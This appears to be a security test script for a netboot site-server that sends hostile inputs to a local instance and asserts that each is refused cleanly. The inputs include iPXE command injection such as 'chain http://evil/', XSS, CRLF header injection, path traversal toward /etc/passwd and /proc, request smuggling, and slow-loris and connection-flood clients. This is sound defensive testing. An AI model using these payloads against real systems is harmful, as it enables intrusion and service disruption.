#!/bin/bash
# Hostile clients against a real site-server (SQLite, 127.0.0.1, a free
# port; HOSTILE_DB=URL: another store, e.g. a new PostgreSQL database of
# tests/server/pg.sh). Meant for the sanitizer build too:
#   make server-asan && SITE_SERVER_BIN=build/asan/site-server tests/server/hostile.sh
# For every attack: the server stays up (/healthz), answers a 4xx (never a
# 5xx, never a crash), stores nothing for a refused request, echoes nothing
# unescaped (iPXE script, HTML), logs no token, and (under ASan/UBSan) the
# sanitizers report nothing; it still stops cleanly on SIGTERM (exit 0: a
# leak at exit fails too). Raw HTTP (Content-Length lies, slow clients, many
# connections) goes through Python sockets with timeouts.
. "$(dirname "$0")/lib.sh"

# libparted (linked through libinstaller.a) reads past a buffer in its GPT
# constructor under ASan unless this is set; it is not the server's code.
export PARTED_GPT_APPLE=${PARTED_GPT_APPLE:-0}
command -v python3 > /dev/null || fail "no python3"

make_www
printf 'TOPSECRET-77ab outside the tree\n' > "$T/secret.txt"
ln -s "$T/secret.txt" "$T/www/profiles/evil.yaml"          # a profile that leads out
ln -s ../../secret.txt "$T/www/profiles/evil2.yaml"
ln -s loop-b "$T/www/loop-a" && ln -s loop-a "$T/www/loop-b" # a symlink loop
ln -s self "$T/www/self"
ln -s /proc/self "$T/www/proc"                               # /proc through a link
ln -s /proc/self/fd/0 "$T/www/magic"
mkdir -p "$T/www/proc-like/self" && printf 'fine\n' > "$T/www/proc-like/self/environ"

# HOSTILE_DB=postgresql://... runs it on an empty PostgreSQL database instead.
site_start --www "$T/www" --policy install --max-body 2MiB ${HOSTILE_DB:+--db "$HOSTILE_DB"}
HOST=${SITE_URL#http://}
HOST=${HOST%/}
export SITE_URL

healthy() {
	local s
	s=$(curl -sS --max-time 10 -o /dev/null -w '%{http_code}' "${SITE_URL}healthz") || s=000
	[ "$s" = 200 ] || fail "$1: /healthz answers $s afterwards"
	kill -0 "$SITE_PID" 2>/dev/null || fail "$1: the server died"
}

# expect_4xx WHAT: a refusal, not a server error
expect_4xx() {
	case $STATUS in
	4[0-9][0-9]) ;;
	*) fail "$1: status $STATUS, expected a 4xx; body: $(head -c 300 "$BODY")" ;;
	esac
}

machines_count() {
	req GET /api/v1/machines
	expect_status 200 "GET /api/v1/machines"
	json 'len(j["machines"])'
}

# ---- a machine to attack with ----
MAC=52:54:00:66:00:01
answer $MAC
TOK=$TOKEN ID=$MID
[ "${#TOK}" = 64 ] || fail "no token in the first answer"
TOKENS=("$TOK")
fds() { find "/proc/$SITE_PID/fd" -mindepth 1 -maxdepth 1 | wc -l; }
FD0=$(fds)
ok "machine $ID installing ($FD0 file descriptors open)"

# ---- /ipxe/answer: hostile query strings ----
n0=$(machines_count)
for bad in $'52:54:00:66:00:02\nchain http://evil/' '52:54:00:66:00:02;chain' '${netX/mac}' \
	'52:54:00:66:00:0g' '' ' 52:54:00:66:00:02' '52:54:00:66:00:02 ' '52:54:00:66:00:02||reboot' \
	"$(printf 'a%.0s' $(seq 5000))" $'52:54:00:66:00:02\r\nX-Injected: yes' '52:54:00:66:00:02%00' \
	'52:54:00:66:00'; do
	req GET /ipxe/answer --get --data-urlencode "mac=$bad" --data-urlencode uuid=00000000-0000-0000-0000-000000000000
	expect_status 400 "answer with mac '${bad:0:40}'"
	[ -z "$(header X-Injected)" ] || fail "a header injected through mac="
	body_lacks evil "a refused answer"
done
req GET /ipxe/answer
expect_status 400 "answer without mac"
[ "$(machines_count)" = "$n0" ] || fail "a refused answer created a machine"
healthy "bad MACs"

# Good MAC, hostile everything else: nothing of it may reach the script.
for v in $'x\nchain http://evil/' 'x;chain http://evil/' '${evil}' 'a||chain http://evil/' 'a b c evil' \
	'"evil"' "'evil'" 'evil`id`' $'\x01evil\x7f'; do
	req GET /ipxe/answer --get --data-urlencode "mac=$MAC" --data-urlencode "uuid=$v" \
		--data-urlencode "serial=$v" --data-urlencode "platform=$v" --data-urlencode "arch=$v"
	expect_status 200 "answer with a hostile uuid/serial/platform"
	body_lacks evil "the answer script (query '${v:0:30}')"
	# Every line is one of the template's: no stray command.
	if grep -vE '^(#|echo |kernel |initrd |boot |chain |:failed|sleep |isset |set |iseq |inc |goto |dhcp |sanboot |exit|$)' "$BODY" | grep -q .; then
		fail "a line the template does not have: $(cat "$BODY")"
	fi
	t=$(sed -n 's/.* inst\.report\.token=\([0-9a-f]*\).*/\1/p' "$BODY")
	[ -n "$t" ] && TOKENS+=("$t") && TOK=$t
done
[ "$(machines_count)" = "$n0" ] || fail "hostile uuid/serial made another machine"
req GET "/api/v1/machines/$ID"
[ "$(json 'j["platform"]')" = pcbios ] || fail "a hostile platform was stored: $(json 'j["platform"]')"
ok "answer: bad MACs 400 and nothing stored; hostile uuid/serial/platform never in the script"

# ---- intake: hostile NDJSON, every batch refused whole ----
count() { events_count "$ID"; }
before=$(count)
post_raw() { # FILE: post it as events with the current token
	post_events "$ID" "$TOK" "$1"
}
ev() { # SEQ [extra json]: an otherwise good event line
	printf '{"seq":%s,"type":"info","machine_id":"%s","phase":"detect"%s}\n' "$1" "$MAC" "${2:-}"
}
i=0
while IFS= read -r line; do
	i=$((i + 1))
	{ ev 1; printf '%s\n' "$line"; } > "$T/hostile.$i"
	post_raw "$T/hostile.$i"
	expect_4xx "hostile event line $i: $line"
	[ "$(count)" = "$before" ] || fail "hostile event line $i stored something: $line"
done <<EOF
{"seq":1e400,"type":"info","machine_id":"$MAC"}
{"seq":9223372036854775808,"type":"info","machine_id":"$MAC"}
{"seq":18446744073709551616,"type":"info","machine_id":"$MAC"}
{"seq":-1,"type":"info","machine_id":"$MAC"}
{"seq":0,"type":"info","machine_id":"$MAC"}
{"seq":2.5,"type":"info","machine_id":"$MAC"}
{"seq":"2","type":"info","machine_id":"$MAC"}
{"seq":2,"seq":3,"type":"info","machine_id":"$MAC"}
{"seq":2,"type":"info","type":"error","machine_id":"$MAC"}
{"seq":2,"type":"info","machine_id":"$MAC","message":"a\u0000b"}
{"seq":2,"type":"info","machine_id":"$MAC","phase":"\u0000"}
{"seq":2,"type":"info","machine_id":"$MAC","message":"\ud800"}
{"seq":2,"type":"progress","machine_id":"$MAC","progress":{"done":-1,"total":10}}
{"seq":2,"type":"progress","machine_id":"$MAC","progress":{"done":1e300,"total":10}}
{"seq":2,"type":"progress","machine_id":"$MAC","progress":{"done":1,"total":-1e300}}
{"seq":2,"type":"progress","machine_id":"$MAC","progress":{"done":"NaN","total":1}}
{"seq":2,"type":"progress","machine_id":"$MAC","progress":{"done":NaN,"total":1}}
{"seq":2,"type":"progress","machine_id":"$MAC","progress":{"done":Infinity,"total":1}}
{"seq":2,"type":"progress","machine_id":"$MAC","progress":[1,2]}
{"seq":2,"type":"finish","machine_id":"$MAC","phase":"install","exit_status":2147483648}
{"seq":2,"type":"finish","machine_id":"$MAC","phase":"install","exit_status":-1}
{"seq":2,"type":"finish","machine_id":"$MAC","phase":"install","exit_status":256}
{"seq":2,"type":"finish","machine_id":"$MAC","phase":"install","exit_status":1.5}
{"seq":2,"type":"finish","machine_id":"$MAC","phase":"install","exit_status":9223372036854775807}
{"seq":2,"type":"info","machine_id":"$MAC","message":1e400}
{"seq":2,"type":"info","machine_id":["$MAC"]}
{"seq":2,"type":"info","machine_id":"52:54:00:66:00:99"}
{"seq":2,"type":"info"}
[]
"just a string"
null
{"seq":2,"type":"info","machine_id":"$MAC"} trailing
{"seq":2,"type":"info","machine_id":"$MAC",}
EOF
# Invalid UTF-8 (raw bytes in a string and outside), a NUL byte, control
# characters, deep nesting, a 1 MiB line of garbage.
{ ev 1; printf '{"seq":2,"type":"info","machine_id":"%s","message":"\xff\xfe\xc0\xaf"}\n' "$MAC"; } > "$T/h.utf8"
{ ev 1; printf '{"seq":2,"type":"info","machine_id":"%s"}\xff\n' "$MAC"; } > "$T/h.utf8b"
{ ev 1; printf '\xff\xfe{"seq":2}\n'; } > "$T/h.utf8c"
{ ev 1; printf '{"seq":2,"type":"info","machine_id":"%s","message":"a\0b"}\n' "$MAC"; } > "$T/h.nul"
{ ev 1; printf '{"seq":2,"type":"info","machine_id":"%s","message":"a\033[2Jb\rc"}\n' "$MAC"; } > "$T/h.ctl"
{ ev 1; printf '{"seq":2,"type":"info","machine_id":"%s","x":' "$MAC"; head -c 100000 /dev/zero | tr '\0' '['; echo; } > "$T/h.deep"
{ ev 1; printf '{"seq":2,"type":"info","machine_id":"%s","x":' "$MAC"; for _ in $(seq 3000); do printf '{"a":'; done
  printf '1'; for _ in $(seq 3000); do printf '}'; done; echo '}'; } > "$T/h.deep2"
{ ev 1; head -c 1000000 /dev/urandom | tr -d '\n\0'; echo; } > "$T/h.garbage"
for f in utf8 utf8b utf8c nul ctl deep deep2 garbage; do
	post_raw "$T/h.$f"
	expect_4xx "hostile body $f"
	[ "$(count)" = "$before" ] || fail "hostile body $f stored something"
done
healthy "hostile NDJSON"

# 10,000 lines in one batch: all stored, then all duplicates.
python3 -c '
import sys
mac = sys.argv[1]
for i in range(1, 10001):
    print("{\"seq\":%d,\"type\":\"info\",\"machine_id\":\"%s\",\"phase\":\"detect\",\"message\":\"m%d\"}" % (i, mac, i))
' "$MAC" > "$T/batch"
post_raw "$T/batch"
expect_status 200 "a batch of 10000 events"
expect_body '{"stored":10000,"duplicates":0}' "a batch of 10000 events"
post_raw "$T/batch"
expect_body '{"stored":0,"duplicates":10000}' "the same 10000 again"
[ "$(count)" = $((before + 10000)) ] || fail "10000 events: $(count) stored"
before=$(count)
# Negative rate/eta and durations are stored as given, never a crash.
{ printf '{"seq":20001,"type":"progress","machine_id":"%s","phase":"image","progress":{"done":0,"total":0,"rate":-1e308,"eta":-5}}\n' "$MAC"
  printf '{"seq":20002,"type":"info","machine_id":"%s","duration":-1e308,"time":"not a time"}\n' "$MAC"
  printf '{"seq":20003,"type":"start","machine_id":"%s","phase":"odd","time":"0000-01-01T00:00:00.99999999999999999999Z"}\n' "$MAC"
  printf '{"seq":20004,"type":"finish","machine_id":"%s","phase":"odd","time":"9999-12-31T23:59:59.999999-23:59","duration":1e308}\n' "$MAC"
  printf '{"seq":20005,"type":"info","machine_id":"%s","time":"1970-01-01T00:00:00+ab:cd"}\n' "$MAC"; } > "$T/odd"
post_raw "$T/odd"
[ "$STATUS" = 200 ] || [ "$STATUS" = 400 ] || fail "odd progress values: status $STATUS"
before=$(count)
req GET "/api/v1/machines/$ID"
expect_status 200 "the machine after odd progress values"
req GET /
expect_status 200 "the status page after odd progress values"
req GET "/machines/$ID"
expect_status 200 "the machine page after odd times"
req GET "/api/v1/machines/$ID/events?after=20000"
expect_status 200 "events with odd times"
for q in 'after=-1' 'after=9223372036854775808' 'limit=0' 'limit=99999999999' 'attempt=0' 'attempt=99999999999999999999' \
	'attempt_id=-5' 'attempt=1&attempt_id=1'; do
	req GET "/api/v1/machines/$ID/events?$q"
	case $STATUS in 200 | 4[0-9][0-9]) ;; *) fail "events?$q: status $STATUS" ;; esac
	req GET "/api/v1/machines/$ID/log?$q"
	case $STATUS in 200 | 4[0-9][0-9]) ;; *) fail "log?$q: status $STATUS" ;; esac
done
ok "hostile NDJSON: 4xx, nothing stored; 10000 lines stored once"

# ---- raw HTTP: Content-Length lies, chunked past the cap, slow clients, many connections ----
cat > "$T/raw.py" << 'PYEOF'
import socket, sys, time, threading, urllib.request
host, port = sys.argv[1].rsplit(":", 1)
port = int(port)
tok, mid, mac = sys.argv[2], sys.argv[3], sys.argv[4]
failures = []

def conn(src=None):
    s = socket.socket()
    s.settimeout(10)
    if src:
        s.bind((src, 0))
    s.connect((host, port))
    return s

def exchange(data, wait=5, shut=False):
    s = conn()
    s.sendall(data)
    if shut:
        s.shutdown(socket.SHUT_WR)
    s.settimeout(wait)
    out = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            out += d
    except (socket.timeout, ConnectionResetError):
        pass
    s.close()
    return out

def status(resp):
    try:
        return int(resp.split(b" ", 2)[1])
    except Exception:
        return 0

def check(what, ok):
    print(("ok: " if ok else "FAIL: ") + what, flush=True)
    if not ok:
        failures.append(what)

def healthz(src=None, timeout=3):
    t0 = time.time()
    try:
        s = conn(src)
        s.settimeout(timeout)
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        out = b""
        while True:
            d = s.recv(4096)
            if not d:
                break
            out += d
        s.close()
        return status(out), time.time() - t0
    except Exception as e:
        return 0, time.time() - t0

ev = ('{"seq":900001,"type":"info","machine_id":"%s"}\n' % mac).encode()
post = ("POST /api/v1/machines/%s/report HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"
        "Content-Type: application/x-ndjson\r\n" % (mid, tok)).encode()

# Content-Length shorter than the body: the server reads what was announced
# (half a line: 400); the rest is a broken next request (400 or a hang-up).
r = exchange(post + b"Content-Length: 10\r\n\r\n" + ev)
check("Content-Length shorter than the body: %d" % status(r), status(r) == 400)
# Longer than the body, then the client stops sending: nothing is stored.
r = exchange(post + b"Content-Length: 100\r\n\r\n" + ev, wait=2, shut=True)
check("Content-Length longer than the body: %d (no answer or a 4xx)" % status(r),
      status(r) == 0 or 400 <= status(r) < 500)
for cl in (b"18446744073709551616", b"-1", b"1e3", b"0x10", b"99999999999999999999999"):
    r = exchange(post + b"Content-Length: " + cl + b"\r\n\r\n" + ev)
    check("Content-Length %s: %d" % (cl.decode(), status(r)), 400 <= status(r) < 500)
r = exchange(post + b"Content-Length: 5\r\nContent-Length: 500\r\n\r\n" + ev)
check("two Content-Lengths: %d" % status(r), status(r) == 0 or 400 <= status(r) < 500)
# Chunked: past the cap (2 MiB) in 64 KiB chunks -> 413 or a hang-up; a
# chunk size that overflows -> 4xx.
s = conn()
s.sendall(post + b"Transfer-Encoding: chunked\r\n\r\n")
chunk = b"x" * 65536
sent = 0
try:
    while sent < 4 * 1024 * 1024:
        s.sendall(b"10000\r\n" + chunk + b"\r\n")
        sent += len(chunk)
    s.sendall(b"0\r\n\r\n")
except OSError:
    pass
s.settimeout(5)
out = b""
try:
    while True:
        d = s.recv(65536)
        if not d:
            break
        out += d
except (socket.timeout, ConnectionResetError):
    pass
s.close()
check("chunked body past the cap: %d (413 or a hang-up)" % status(out), status(out) in (0, 413))
r = exchange(post + b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFFFFFFFFF\r\nxx\r\n0\r\n\r\n")
check("chunk size overflow: %d" % status(r), status(r) == 0 or 400 <= status(r) < 500)
r = exchange(post + b"Transfer-Encoding: chunked\r\n\r\n-5\r\nxx\r\n0\r\n\r\n")
check("negative chunk size: %d" % status(r), status(r) == 0 or 400 <= status(r) < 500)
# A request line and headers that are too long.
r = exchange(b"GET /" + b"a" * 200000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
check("a 200 kB request line: %d" % status(r), status(r) == 0 or 400 <= status(r) < 500)
r = exchange(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + b"b" * 200000 + b"\r\n\r\n")
check("a 200 kB header: %d" % status(r), status(r) == 0 or 400 <= status(r) < 500)
r = exchange(b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"X-A: b\r\n" * 20000 + b"\r\n")
check("20000 headers: %d" % status(r), status(r) == 0 or 400 <= status(r) < 500)
r = exchange(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: a\x00b\r\n\r\n")
check("a NUL in a header: %d" % status(r), status(r) in (0, 200) or 400 <= status(r) < 500)
r = exchange(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(256)) * 4)
check("TLS/binary garbage: %d" % status(r), status(r) == 0 or 400 <= status(r) < 500)

# Slow clients: one byte a second, headers (slow-loris) and a body; other
# clients are served meanwhile, promptly.
def slow(data, seconds):
    try:
        s = conn()
        for i in range(min(len(data), seconds)):
            s.sendall(data[i:i + 1])
            time.sleep(1)
        s.close()
    except OSError:
        pass
slow_threads = [threading.Thread(target=slow, args=(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100, 6))
                for _ in range(20)]
body_slow = post + b"Content-Length: 1000\r\n\r\n" + ev
slow_threads.append(threading.Thread(target=lambda: (lambda s: (s.sendall(body_slow[:-20]),
    [ (time.sleep(1), s.sendall(b" ")) for _ in range(6)], s.close()))(conn())))
for t in slow_threads:
    t.start()
time.sleep(1.5)
worst = 0
for _ in range(4):
    st, dt = healthz()
    check("healthz during slow clients: %d in %.2fs" % (st, dt), st == 200 and dt < 2)
    worst = max(worst, dt)
    time.sleep(0.5)
for t in slow_threads:
    t.join()

# Many connections at once (300, each a started request), held 3 s: the
# server refuses past its limits but stays up; a client from another
# loopback address is served meanwhile; all are served again afterwards.
held = []
for i in range(300):
    try:
        s = conn()
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        held.append(s)
    except OSError:
        break
print("info: %d connections open" % len(held), flush=True)
time.sleep(1)
st, dt = healthz(src="127.0.0.2")
check("healthz from 127.0.0.2 during 300 connections from 127.0.0.1: %d in %.2fs" % (st, dt), st == 200)
time.sleep(2)
for s in held:
    try:
        s.close()
    except OSError:
        pass
time.sleep(1)
st, dt = healthz()
check("healthz after the 300 connections: %d" % st, st == 200)

# 200 boot answers, 40 at a time, for 200 new machines: no store error.
def boot(i):
    try:
        u = "http://%s:%d/ipxe/answer?mac=52:54:00:77:%02x:%02x&platform=pcbios" % (host, port, i // 256, i % 256)
        with urllib.request.urlopen(u, timeout=60) as f:
            return f.status
    except Exception as e:
        return getattr(e, "code", 0)
results = []
lock = threading.Lock()
def worker(ids):
    for i in ids:
        st = boot(i)
        with lock:
            results.append(st)
ts = [threading.Thread(target=worker, args=(range(k, 200, 40),)) for k in range(40)]
for t in ts:
    t.start()
for t in ts:
    t.join()
check("200 concurrent boot answers: %d ok, others %s" % (results.count(200), sorted(set(results) - {200})),
      results.count(200) == 200)
# 40 answers at once for one new machine: one machine, 40 attempts, no error.
results = []
ts = [threading.Thread(target=lambda: results.append(boot(0xabcd))) for _ in range(40)]
for t in ts:
    t.start()
for t in ts:
    t.join()
check("40 concurrent answers for one new machine: %d ok, others %s" % (results.count(200), sorted(set(results) - {200})),
      results.count(200) == 40)
sys.exit(1 if failures else 0)
PYEOF
timeout 300 python3 "$T/raw.py" "$HOST" "$TOK" "$ID" "$MAC" || fail "raw HTTP checks (above)"
[ "$(count)" = "$before" ] || fail "a lying or slow request stored events ($(count), expected $before)"
req GET /api/v1/machines/52:54:00:77:ab:cd
expect_status 200 "the machine 40 concurrent answers made"
[ "$(json 'j["attempt"]["number"]')" = 40 ] || fail "40 concurrent answers: attempt number $(json 'j["attempt"]["number"]')"
healthy "raw HTTP"
ok "raw HTTP: Content-Length lies, chunked past the cap, slow clients, many connections"

# ---- HTML and header injection through what machines and operators send ----
XSS='<script>alert(1)</script><img src=x onerror=alert(2)>"'"'"'&'
inv=$(python3 -c 'import json,sys; print(json.dumps({"hostname": sys.argv[1], "machine": {"vendor": sys.argv[1]}, "disks": [{"name": sys.argv[1], "size": 1}]}))' "$XSS")
req POST "/api/v1/machines/$ID/report" -H "Authorization: Bearer $TOK" -H 'X-Installer-Upload: inventory' \
	-H 'Content-Type: application/json' --data-binary "$inv"
expect_status 200 "an inventory with HTML in it"
python3 -c 'import json,sys; print(json.dumps({"seq": 30001, "type": "error", "machine_id": sys.argv[2], "phase": sys.argv[1], "message": sys.argv[1]}))' "$XSS" "$MAC" > "$T/xss"
post_raw "$T/xss"
expect_status 200 "an error event with HTML in it"
for page in / "/machines/$ID"; do
	req GET "$page"
	expect_status 200 "GET $page"
	body_lacks '<script>alert' "GET $page"
	body_lacks '<img src=x' "GET $page"
	[ "$(header Content-Security-Policy)" = "default-src 'self'" ] || fail "GET $page: CSP $(header Content-Security-Policy)"
done
req GET "/machines/$ID"
body_has '&lt;script&gt;alert(1)' "the machine page shows the hostname escaped"
operator "$ID" hold "$(python3 -c 'import json,sys; print(json.dumps({"message": sys.argv[1]}))' $'x\nchain http://evil/ ${a} || reboot; '"$XSS")"
expect_status 200 "hold with a hostile message"
req GET "/ipxe/answer?mac=$MAC"
expect_status 200 "the hold answer"
if grep -vE '^(#|echo |chain |sleep |$)' "$BODY" | grep -q . || grep -q '^chain http://evil' "$BODY" ||
	grep '^echo' "$BODY" | grep -qE '[$|;]'; then
	fail "the hold script carries the message unescaped: $(cat "$BODY")"
fi
for page in / "/machines/$ID"; do
	req GET "$page"
	body_lacks '<script>alert' "GET $page (held)"
done
operator "$ID" release
expect_status 200 "release"
req GET "/api/v1/machines/%0d%0aX-Injected:%20yes"
expect_4xx "a CRLF in a machine name"
[ -z "$(header X-Injected)" ] || fail "a header injected through the path"
req GET "/api/v1/machines/%FF"
expect_status 404 "a machine name that is not UTF-8"
req GET "/api/v1/machines/%C3%A9t%C3%A9"
expect_status 404 "a machine name in UTF-8"
req GET "/machines/%FF"
expect_4xx "a machine page name that is not UTF-8"
ok "HTML escaped on both pages, hold message neutralised in iPXE, no header injection"

# ---- static files: path tricks and Range ----
for path in /loop-a /self /proc/environ /proc/self/environ /magic /profiles/evil.yaml /profiles/evil2.yaml \
	"/$(printf 'd%.0s' $(seq 300))" "/$(printf 'a/%.0s' $(seq 3000))x" /vmlinuz%00 /%00 /vmlinuz%2500 \
	'/vmlinuz%' '/vmlinuz%g0' '/%c0%ae%c0%ae/secret.txt' '/.%2e/secret.txt' '/profiles/%2e%2e/%2e%2e/secret.txt'; do
	req GET "$path"
	expect_4xx "GET ${path:0:60}"
	body_lacks TOPSECRET "GET ${path:0:60}"
done
req GET /proc-like/self/environ
expect_status 200 "a file under a directory called proc-like"
size=$(stat -c %s "$T/www/vmlinuz")
range() { # HEADER EXPECTED-STATUS
	req GET /vmlinuz -H "Range: $1"
	[ "$STATUS" = "$2" ] || fail "Range '$1': status $STATUS, expected $2"
}
many=$(python3 -c 'print("bytes=" + ",".join("%d-%d" % (i, i) for i in range(0, 4000, 2)))')
range "$many" 200
cmp -s "$BODY" "$T/www/vmlinuz" || fail "many ranges: not the whole file"
range 'bytes=0-99999999999999999999999' 200
range 'bytes=99999999999999999999999-' 200
range 'bytes=-99999999999999999999999' 200
range 'bytes=18446744073709551615-' 416
range 'bytes=-0' 416
range "bytes=$size-" 416
range "bytes=$((size - 1))-" 206
[ "$(stat -c %s "$BODY")" = 1 ] || fail "the last byte: $(stat -c %s "$BODY") bytes"
range 'bytes=-1' 206
range 'bytes=5-1' 200
range 'bytes=' 200
range 'bytes=-' 200
range 'bytes=abc' 200
range 'lines=1-2' 200
range "bytes=0-$((size + 1000))" 206
[ "$(header Content-Range)" = "bytes 0-$((size - 1))/$size" ] || fail "Content-Range $(header Content-Range)"
range 'bytes=--5' 200
range 'bytes=0--5' 200
healthy "path tricks and ranges"
ok "static files: loops, /proc, magic links, long paths, encodings refused; Range edge cases"

# ---- the operator API: profile names ----
req GET "/api/v1/machines/$ID"
prof=$(json 'j["profile"]')
for p in ../../etc/passwd ../web.yaml /etc/passwd 'web.yaml/' '.hidden' '' "$(printf 'p%.0s' $(seq 200))" \
	'web.yaml\u0000x' 'evil.yaml' 'evil2.yaml' 'nonexistent.yaml' 'web yaml'; do
	operator "$ID" assign "{\"profile\":\"$p\"}"
	expect_status 400 "assign profile '${p:0:40}'"
done
for b in '{"profile":7}' '{"profile":["web.yaml"]}' '{}' '[]' 'null' '{"profile":"web.yaml","profile":"x"}' \
	'{"profile":"web.yaml"' "$(printf '[%.0s' $(seq 50000))"; do
	operator "$ID" assign "$b"
	expect_status 400 "assign body ${b:0:40}"
done
operator "$ID" hold '{"message":"a\u0000b"}'
expect_status 400 "hold with a NUL in the message"
req GET "/api/v1/machines/$ID"
[ "$(json 'j["profile"]')" = "$prof" ] || fail "a refused assign changed the profile to $(json 'j["profile"]')"
[ "$(json 'j["state"]')" != held ] || fail "a refused hold held the machine"
operator "$ID" assign '{"profile":"web.yaml"}'
expect_status 200 "assign web.yaml"
for name in '..%2F..%2Fetc%2Fpasswd' '%2e%2e' "$(printf '9%.0s' $(seq 40))" '-1' '0' "$ID%00"; do
	operator "$name" reinstall
	expect_4xx "reinstall of machine '$name'"
done
healthy "operator API"
ok "operator API: hostile profile names and bodies refused, nothing changed"

# ---- held during an install: its outcome is what a release goes back to ----
for outcome in ok failed; do
	m=52:54:00:66:01:0$([ $outcome = ok ] && echo 1 || echo 2)
	answer $m
	hid=$MID htok=$TOKEN
	TOKENS+=("$htok")
	operator "$hid" hold '{"message":"maintenance"}'
	expect_status 200 "hold machine $hid while it installs"
	{ event 1 $m start install; event 2 $m finish install ",\"result\":\"$outcome\""; } > "$T/run"
	post_events "$hid" "$htok" "$T/run"
	expect_status 200 "the install's events while held"
	[ "$(state "$hid")" = held ] || fail "an install finishing made a held machine $(state "$hid")"
	operator "$hid" release
	expect_status 200 "release"
	want=installed
	[ $outcome = ok ] || want=ready
	[ "$(state "$hid")" = $want ] ||
		fail "held while installing, the install $outcome, released: $(state "$hid"), expected $want (it would install again)"
done
ok "held during an install: released to what the install ended in"

# ---- file descriptors: every connection and file closed again ----
for _ in $(seq 20); do
	[ "$(fds)" -le $((FD0 + 4)) ] && break
	sleep 0.5
done
[ "$(fds)" -le $((FD0 + 4)) ] || fail "file descriptors: $FD0 at the start, $(fds) now: $(ls -l "/proc/$SITE_PID/fd" | tail -20)"
ok "file descriptors: $FD0 at the start, $(fds) at the end"

# ---- secrets, log hygiene and sanitizers ----
# What clients send reaches the log only made harmless: no control
# characters (terminal escapes, carriage returns) from a request.
if LC_ALL=C grep -naP '[\x00-\x08\x0b-\x1f\x7f]' "$SITE_LOG" | head -5 | cat -A | grep .; then
	fail "control characters from requests in the server's log (above)"
fi
for t in "${TOKENS[@]}" "$SITE_OPERATOR_TOKEN"; do
	if grep -qF "$t" "$SITE_LOG" "$T/server.stdout"; then
		fail "a token in the server's output"
	fi
done
if grep -nE 'AddressSanitizer|LeakSanitizer|UndefinedBehaviorSanitizer|runtime error:' "$SITE_LOG"; then
	fail "a sanitizer report (above)"
fi
site_stop
if grep -nE 'AddressSanitizer|LeakSanitizer|UndefinedBehaviorSanitizer|runtime error:' "$SITE_LOG"; then
	fail "a sanitizer report at exit (above)"
fi
ok "no token in the log, no sanitizer report, stopped cleanly"
echo "PASS"
